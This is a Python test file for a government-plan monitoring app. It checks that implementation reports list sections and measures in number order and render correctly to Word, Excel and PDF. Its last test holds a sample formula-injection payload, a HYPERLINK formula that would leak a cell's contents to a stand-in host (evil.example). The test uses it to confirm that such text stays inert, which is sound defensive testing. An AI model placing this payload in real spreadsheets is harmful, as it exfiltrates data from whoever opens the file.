"""The implementation report: sections and measures in number order, the right text, every format read back."""

import io
import zipfile
from datetime import UTC, date, datetime

import docx
import openpyxl
import pytest
from pypdf import PdfReader

from monitoris.extensions import db
from monitoris.models import Report
from monitoris.plans import render
from monitoris.plans import report as implementation
from tests.factories import make_act, make_assignment, make_task, make_world

LONG = ("Həyata keçirilmiş işlər haqqında məlumat: ölkənin bütün regionlarında maarifləndirmə tədbirləri "
        "keçirilmişdir. ") * 40


def make_report(assignment, *, period="2026", state="accepted", text="Done.", version=1, submitted=None):
    submitted = submitted or datetime(2026, 5, 1, 8, 0, tzinfo=UTC)
    report = Report(assignment=assignment, period=period, period_due_on=date(2026, 12, 31), final=False,
                    version=version, text=text, progress=50, state=state,
                    submitted_at=submitted if state != "draft" else None,
                    submitted_on=submitted.date() if state != "draft" else None)
    db.session.add(report)
    db.session.flush()
    return report


@pytest.fixture
def w():
    return make_world()


@pytest.fixture
def plan(w):
    """Sections 1 and 4 > 4.1; measures 1.1, 1.2, 1.10, 4.1.1; another body's 2.1; a measure of 2019 only."""
    act = make_act(title="National Action Plan on Open Government")
    years = {"period_start": date(2025, 1, 1), "period_end": date(2027, 12, 31)}
    s1 = make_task(act, "1", title="Better public e-services")
    t = {n: make_task(act, n, parent=s1, title=f"Measure {n}", indicator=f"Indicator {n}", **years)
         for n in ("1.10", "1.2", "1.1")}
    s4 = make_task(act, "4", title="Açıq məlumatlar — Открытые данные")
    s41 = make_task(act, "4.1", parent=s4, title="Data catalogue")
    t["4.1.1"] = make_task(act, "4.1.1", parent=s41, title="Publish the catalogue — Каталог данных",
                           indicator="Catalogue online", recurrence="annual")
    s2 = make_task(act, "2", title="Procurement")
    t["2.1"] = make_task(act, "2.1", parent=s2, title="Publish plans", **years)
    old = make_task(act, "1.3", parent=s1, title="Finished long ago", period_start=date(2019, 1, 1),
                    period_end=date(2019, 12, 31))
    a = {n: make_assignment(t[n], w.sa) for n in ("1.1", "1.2", "1.10", "4.1.1")}
    a["1.10-mt"] = make_assignment(t["1.10"], w.mt, role="co_executor")
    a["2.1"] = make_assignment(t["2.1"], w.mt)
    make_assignment(old, w.sa)
    make_report(a["1.1"], text="First paragraph of 1.1.\n\nSecond paragraph of 1.1.")
    make_report(a["1.1"], period="2026-Q3", state="submitted", text="A later draft that is not accepted.")
    make_report(a["1.2"], state="submitted", text="Submitted text of 1.2.")
    make_report(a["1.2"], period="2025", state="accepted", text="Last year's text of 1.2.")
    make_report(a["4.1.1"], text=LONG + "\nİkinci abzas: Ölkə üzrə şəffaflıq. Второй абзац: прозрачность.")
    make_report(a["1.10-mt"], text="MT's part of 1.10.")
    make_report(a["2.1"], state="returned", text="Returned, does not count.")
    return act


EXPECTED = [("section", "1"), ("measure", "1.1"), ("measure", "1.2"), ("measure", "1.10"), ("section", "4"),
            ("section", "4.1"), ("measure", "4.1.1")]


def test_rows_are_sections_and_measures_in_number_order_with_the_right_text(w, plan):
    report = implementation.build(plan, 2026, w.sa)
    assert report.title == (f"Report on the implementation of National Action Plan on Open Government by {w.sa.name} "
                            f"in 2026")
    assert [(r.kind, r.number) for r in report.rows] == EXPECTED
    m = {r.number: r for r in report.measures}
    assert m["1.1"].paragraphs == ["First paragraph of 1.1.", "Second paragraph of 1.1."]
    assert m["1.1"].status == "accepted" and m["1.1"].period == "2025-2027"
    assert m["1.2"].paragraphs == ["Submitted text of 1.2."] and m["1.2"].status == "submitted"
    assert m["1.10"].paragraphs == [implementation.NOT_REPORTED] and m["1.10"].status == "not_reported"
    assert m["4.1.1"].period == "Regular" and len(m["4.1.1"].paragraphs) == 2


def test_all_organizations_in_one_table_grouped_by_organization(w, plan):
    report = implementation.build(plan, 2026)
    groups = [(r.title, r.number) for r in report.rows if r.kind == "organization"]
    assert groups == sorted([(w.mt.name, w.mt.short_name), (w.sa.name, w.sa.short_name)])
    mt_rows = report.rows[[r.number for r in report.rows].index(w.mt.short_name) + 1:]
    mt_rows = mt_rows[:next((i for i, r in enumerate(mt_rows) if r.kind == "organization"), len(mt_rows))]
    assert [(r.kind, r.number) for r in mt_rows] == [("section", "1"), ("measure", "1.10"), ("section", "2"),
                                                     ("measure", "2.1")]
    assert mt_rows[1].paragraphs == ["MT's part of 1.10."]
    assert mt_rows[3].status == "not_reported"  # a returned report does not count
    assert "by" not in report.title


def test_other_years_and_earlier_measures(w, plan):
    report = implementation.build(plan, 2019, w.sa)
    assert [(r.kind, r.number) for r in report.rows] == [("section", "1"), ("measure", "1.3"), ("section", "4"),
                                                         ("section", "4.1"), ("measure", "4.1.1")]
    assert all(r.status == "not_reported" for r in report.measures)
    assert implementation.build(plan, 2025, w.sa).measures[1].paragraphs == ["Last year's text of 1.2."]


def expected_texts(report):
    return [(r.number, r.title, r.paragraphs) for r in report.measures]


def test_docx_is_a_real_word_table_with_a_repeated_header(w, plan):
    report = implementation.build(plan, 2026, w.sa)
    document = docx.Document(io.BytesIO(render.to_docx(report)))
    assert report.title in document.paragraphs[0].text
    table = document.tables[0]
    header = table.rows[0]
    assert [c.text for c in header.cells] == list(implementation.COLUMNS)
    assert header._tr.trPr.xpath("./w:tblHeader")
    rows = table.rows[1:]
    sections = [r.cells[0].text for r in rows if len({id(c._tc) for c in r.cells}) == 1]
    assert sections == ["1. Better public e-services", "4. Açıq məlumatlar — Открытые данные", "4.1. Data catalogue"]
    measures = [r for r in rows if len({id(c._tc) for c in r.cells}) > 1]
    assert [r.cells[0].text for r in measures] == ["1.1", "1.2", "1.10", "4.1.1"]
    assert [p.text for p in measures[0].cells[4].paragraphs] == ["First paragraph of 1.1.", "Second paragraph of 1.1."]
    assert [p.text for p in measures[1].cells[4].paragraphs] == ["Submitted text of 1.2.", render.SUBMITTED_NOTE]
    assert measures[2].cells[4].text == implementation.NOT_REPORTED
    assert measures[3].cells[1].text == "Publish the catalogue — Каталог данных"
    assert measures[3].cells[4].paragraphs[-1].text.startswith("İkinci abzas: Ölkə üzrə şəffaflıq. Второй")


def test_xlsx_keeps_rows_sections_and_paragraphs(w, plan):
    report = implementation.build(plan, 2026, w.sa)
    sheet = openpyxl.load_workbook(io.BytesIO(render.to_xlsx(report))).active
    values = [tuple(c.value for c in row) for row in sheet.iter_rows()]
    assert values[0][0] == report.title and values[2] == implementation.COLUMNS
    body = values[3:]
    assert [v[0] for v in body] == ["1. Better public e-services", "1.1", "1.2", "1.10",
                                    "4. Açıq məlumatlar — Открытые данные", "4.1. Data catalogue", "4.1.1"]
    assert body[1][4] == "First paragraph of 1.1.\nSecond paragraph of 1.1."
    assert sheet["A4"].font.b and sheet.print_title_rows == "$3:$3"
    assert {str(r) for r in sheet.merged_cells.ranges} >= {"A4:E4", "A8:E8", "A9:E9"}
    assert body[6][4].endswith("Второй абзац: прозрачность.")


def pdf_text(data):
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_pdf_shows_every_measure_in_order_with_azerbaijani_and_russian_letters(w, plan):
    report = implementation.build(plan, 2026, w.sa)
    data = render.to_pdf(report)
    assert data.startswith(b"%PDF")
    text = pdf_text(data)
    flat = " ".join(text.split())
    positions = [flat.index(s) for s in ("Better public e-services", "Measure 1.1", "Measure 1.2", "Measure 1.10",
                                         "Açıq məlumatlar — Открытые данные", "Data catalogue", "Каталог данных")]
    assert positions == sorted(positions)
    for expected in ("First paragraph of 1.1.", "Second paragraph of 1.1.", "Submitted text of 1.2.",
                     implementation.NOT_REPORTED, "İkinci abzas: Ölkə üzrə şəffaflıq. Второй абзац: прозрачность."):
        assert expected in flat
    assert len(PdfReader(io.BytesIO(data)).pages) >= 2  # the long text runs onto more pages
    assert text.count("Information on completed works") >= 2  # the header repeats on each page


def test_an_empty_report_renders_in_every_format(w):
    report = implementation.build(make_act(), 2026, w.sa)
    assert report.rows == []
    for renderer in render.RENDERERS.values():
        assert renderer(report)


def test_text_that_looks_like_a_formula_stays_text_in_every_format(w):
    """An executive body's report reads ``=HYPERLINK(...)``: the controller's spreadsheet shows it, never runs it."""
    act = make_act(title="=1+2")
    evil = '=HYPERLINK("http://evil.example/?leak="&B5,"Open the evidence")'
    task = make_task(act, "1", title="@SUM(A1:A9)", indicator="+1", period_start=date(2026, 1, 1),
                     period_end=date(2026, 12, 31))
    make_report(make_assignment(task, w.sa), text=evil)
    report = implementation.build(act, 2026, w.sa)

    data = render.to_xlsx(report)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    measure = [c for c in sheet[4]]
    assert [c.value for c in measure] == ["1", "@SUM(A1:A9)", "+1", "2026", evil]
    assert all(c.data_type == "s" for c in measure if c.value)
    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("Report on the implementation of =1+2")
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not any(b"<f>" in package.read(name) for name in package.namelist() if name.endswith(".xml"))

    document = docx.Document(io.BytesIO(render.to_docx(report)))
    assert document.tables[0].rows[1].cells[4].text == evil
    assert b"instrText" not in render.to_docx(report) and b"fldSimple" not in render.to_docx(report)
    assert "HYPERLINK" in " ".join(pdf_text(render.to_pdf(report)).split())
